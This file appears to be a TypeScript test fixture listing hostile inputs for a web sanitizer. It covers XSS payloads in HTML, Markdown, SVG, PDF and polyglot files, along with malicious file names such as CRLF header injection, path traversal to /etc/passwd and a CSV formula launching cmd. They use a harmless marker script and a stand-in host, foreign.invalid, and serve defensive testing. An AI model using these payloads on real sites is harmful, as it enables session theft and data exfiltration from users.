/**
 * Hostile texts, written for these tests: what somebody might put into a comment, a rich text, a picture or a file's name to have
 * foreign script run or a foreign server asked in another's browser. HIT is called when a script runs; FOREIGN is asked when a page
 * loads something by itself.
 */
export const HIT = "window.metaloomHit=1";
export const FOREIGN = "https://foreign.invalid";

const A = HIT;

/** In HTML, and in Markdown, which lets HTML through. */
export const HTML_PAYLOADS: readonly string[] = [
  `<script>${A}</script>`, `<SCRIPT SRC=${FOREIGN}/a.js></SCRIPT>`, `<script\n>${A}</script\n>`, `<scr<script>ipt>${A}</scr</script>ipt>`, `<script/x>${A}</script>`, `<script type=module>${A}</script>`,
  `<img src=x onerror="${A}">`, `<img src=x onerror=${A}//`, `<IMG SRC="javascript:${A}">`, `<img src="${FOREIGN}/pixel.png">`, `<img srcset="${FOREIGN}/a 1x">`, `<img/src/onerror=${A}>`, `<img src=x:x onerror\n=\n"${A}">`, `<img src='x' onerror='${A}' `,
  `<svg onload="${A}">`, `<svg><script>${A}</script></svg>`, `<svg><animate onbegin="${A}" attributeName=x dur=1s>`, `<svg><set onbegin="${A}" attributeName=x>`, `<svg><a xlink:href="javascript:${A}"><text y=20>x</text></a></svg>`, `<svg><image href="${FOREIGN}/a.svg" /></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${A}</script></svg>#x"/></svg>`, `<svg><foreignObject><body onload="${A}"></foreignObject></svg>`, `<svg><style><img src=x onerror="${A}"></style></svg>`, `<svg><desc><img src=x onerror="${A}"></desc></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${A}&gt;">`, `<math><mi//xlink:href="data:x,<script>${A}</script>">`, `<math href="javascript:${A}">x</math>`, `<math><annotation-xml encoding="text/html"><script>${A}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${A}>`, `<noscript><p title="</noscript><img src=x onerror=${A}>">`, `<template><script>${A}</script></template>`, `<textarea><script>${A}</script></textarea>`, `<title><img src=x onerror=${A}></title>`, `<xmp><img src=x onerror=${A}></xmp>`, `<plaintext><img src=x onerror=${A}>`, `<listing>&lt;img src=x onerror=${A}&gt;</listing>`,
  `<iframe src="javascript:${A}"></iframe>`, `<iframe srcdoc="<script>parent.${A.slice(7)}</script>"></iframe>`, `<iframe src="${FOREIGN}"></iframe>`, `<frameset onload="${A}">`, `<object data="javascript:${A}"></object>`, `<object data="${FOREIGN}/a.swf"></object>`, `<embed src="javascript:${A}">`, `<embed src="${FOREIGN}/a.swf">`, `<applet code="${FOREIGN}/A.class"></applet>`, `<portal src="${FOREIGN}"></portal>`,
  `<a href="javascript:${A}">a link</a>`, `<a href="JaVaScRiPt:${A}">a link</a>`, `<a href="java\tscript:${A}">a link</a>`, `<a href="java&#10;script:${A}">a link</a>`, `<a href="&#106;avascript:${A}">a link</a>`, `<a href="javascript&colon;${A}">a link</a>`, `<a href=" \u0001javascript:${A}">a link</a>`, `<a href="data:text/html,<script>${A}</script>">a link</a>`, `<a href="vbscript:${A}">a link</a>`, `<a href="blob:${FOREIGN}/x">a link</a>`, `<a href="https://x" onmouseover="${A}" autofocus onfocus="${A}" tabindex=1>a link</a>`, `<a href="//foreign.invalid/x">a link</a>`, `<a href="x" ping="${FOREIGN}">a link</a>`, `<a href="javascript://%0a${A}">a link</a>`,
  `<body onload="${A}">`, `<html onmouseover="${A}">`, `<div onclick="${A}" style="position:fixed;inset:0">x</div>`, `<div style="background:url(${FOREIGN}/a)">x</div>`, `<div style="width:expression(${A})">x</div>`, `<p style="position:fixed;inset:0;z-index:999">over all</p>`, `<style>@import "${FOREIGN}/a.css";</style>`, `<style>*{background:url("${FOREIGN}/b")}</style>`, `<link rel=stylesheet href="${FOREIGN}/a.css">`, `<link rel=prefetch href="${FOREIGN}/a">`, `<link rel="dns-prefetch" href="${FOREIGN}">`, `<meta http-equiv="refresh" content="0;url=${FOREIGN}">`, `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`, `<base href="${FOREIGN}/">`,
  `<form action="${FOREIGN}"><input name=password autofocus onfocus="${A}"><button>Go</button></form>`, `<input onfocus="${A}" autofocus>`, `<select autofocus onfocus="${A}">`, `<keygen autofocus onfocus="${A}">`, `<button formaction="javascript:${A}">x</button>`, `<isindex action="javascript:${A}">`, `<input type=image src="${FOREIGN}/a.png">`,
  `<video src="${FOREIGN}/a.mp4" onerror="${A}" autoplay></video>`, `<video><source onerror="${A}"></video>`, `<video poster="${FOREIGN}/p.png"></video>`, `<audio src=x onerror="${A}">`, `<audio src="${FOREIGN}/a.mp3" autoplay></audio>`, `<track src="${FOREIGN}/a.vtt">`, `<picture><source srcset="${FOREIGN}/a"><img src=x onerror="${A}"></picture>`, `<details open ontoggle="${A}">x</details>`, `<marquee onstart="${A}">x</marquee>`, `<dialog open onclose="${A}">x</dialog>`, `<table background="${FOREIGN}/t.png"><tr><td background="${FOREIGN}/c.png">x</td></tr></table>`, `<bgsound src="${FOREIGN}/a">`,
  `<!--><img src=x onerror=${A}>-->`, `<!--[if IE]><script>${A}</script><![endif]-->`, `<![CDATA[<img src=x onerror=${A}>]]>`, `<?xml-stylesheet href="javascript:${A}"?>`, `<!DOCTYPE x [<!ENTITY y "<script>${A}</script>">]>&y;`, `&lt;script&gt;${A}&lt;/script&gt;`, `<b/><svg/onload=${A}>`, `<p id="__next" name="body">clobbers</p>`, `<form id=createElement><input name=innerHTML></form>`, `<a id=location href=x>x</a>`, `<div is="x-evil" slot=x>x</div>`, `<x-evil onclick="${A}">x</x-evil>`, `"><script>${A}</script>`, `'-${A}-'`, `</textarea></script></style></title><script>${A}</script>`, `<p contenteditable onbeforeinput="${A}">x</p>`, `<p data-mention="x" onpointerenter="${A}">@Boss</p>`, `<ul popover id=p><li onbeforetoggle="${A}">x</ul><button popovertarget=p>x</button>`,
];

/** Only Markdown reads these as more than text. */
export const MARKDOWN_PAYLOADS: readonly string[] = [
  `[a link](javascript:${A})`, `[a link](JAVASCRIPT:${A})`, `[a link](<javascript:${A}>)`, `[a link](java\u0000script:${A})`, `[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `[a link](vbscript:${A})`, `[a link][r]\n\n[r]: javascript:${A}`, `[a link](https://x "onmouseover=${A}")`, `[a link](https://x" onmouseover="${A})`,
  `![a picture](${FOREIGN}/pixel.png)`, `![a picture](javascript:${A})`, `![a picture](x "onerror=${A}")`, `![a](x"onerror="${A})`, `![a][r]\n\n[r]: ${FOREIGN}/a.png`, `<javascript:${A}>`, `<https://x" onclick="${A}>`, `www.x.invalid" onmouseover="${A}`, "```html\n<script>" + A + "</script>\n```", "`<img src=x onerror=" + A + ">`", "``` \"><img src=x onerror=" + A + ">\ntext\n```",
  `| a |\n|---|\n| <img src=x onerror=${A}> |`, `# <svg onload=${A}>`, `> <iframe src="javascript:${A}">`, `- [ ] <input autofocus onfocus=${A}>`, `~~<script>${A}</script>~~`, `*<img src=x onerror=${A}>*`, `@[<img src=x onerror=${A}>](user:00000000-0000-7000-8000-000000000001)`, `@[x](javascript:${A})`, `&#60;script&#62;${A}&#60;/script&#62;`, `\\<script>${A}</script>`,
];

/** Pictures and pages somebody may call a picture, a PDF or a text. */
export const FILE_PAYLOADS: readonly (readonly [name: string, content: string])[] = [
  ["a.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="${A}"/>`], ["a.svg", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>${A}</script></svg>`], ["a.png", `<svg xmlns='http://www.w3.org/2000/svg'><image href='${FOREIGN}/a'/></svg>`], ["a.svg", `<!DOCTYPE svg PUBLIC "x" "y"><svg><script>${A}</script></svg>`], ["a.svg", `\ufeff<svg onload=${A}>`], ["a.svgz.txt", `  <svg onload=${A}>`],
  ["a.html", `<!doctype html><script>${A}</script>`], ["a.txt", `<html><body onload=${A}>`], ["a.pdf", `<script>${A}</script>`], ["a.jpg", `<iframe src=javascript:${A}>`], ["a.xml", `<?xml-stylesheet type="text/xsl" href="#x"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`], ["a.md", `<img src=x onerror=${A}>`], ["a.csv", `<a href="javascript:${A}">x</a>`], ["a.json", `<script>${A}</script>`],
];

/** Names of files. */
export const NAME_PAYLOADS: readonly string[] = [
  `"><img src=x onerror=${A}>.txt`, `<script>${A}</script>.txt`, `a"; filename="b.html`, "a\r\nContent-Type: text/html\r\n\r\n<script>.txt", "a\nSet-Cookie: x=y.txt", `../../../etc/passwd`, `..\\..\\x.txt`, `a%0d%0aX: y.txt`, `'';!--"<X>=&{()}.txt`, "cod\u202egpj.exe", "a\u0000.html", "javascript:alert(1)", "=cmd|' /C calc'!A0.csv", "a;b=c.txt", "а\u200bб.txt", "CON.txt", `${"x".repeat(3000)}.html`,
];

/** Nobody sees at their beginning what these hold, so they are taken as the text, picture or PDF that they say they are; what is hostile comes later. */
export const SHOWN_PAYLOADS: readonly (readonly [name: string, content: string])[] = [
  ...["txt", "md", "csv", "json", "xml"].map((extension) => [`later.${extension}`, `${"Notes of the meeting. ".repeat(200)}\n${[...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS, ...FILE_PAYLOADS.map(([, content]) => content)].join("\n").replaceAll("\0", "")}`] as const),
  ["namespace.xml", `<?xml version="1.0"?><note>${"word ".repeat(900)}<x:script xmlns:x="http://www.w3.org/1999/xhtml">${A}</x:script></note>`],
  ["both.gif", `GIF89a/*\x01\0\x01\0\0\0\0;<html><body onload="${A}"><script>${A}</script>*/=1;${A}`],
  ["opens.pdf", `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("${FOREIGN}"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI(${FOREIGN}/a)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF<script>${A}</script>`],
];
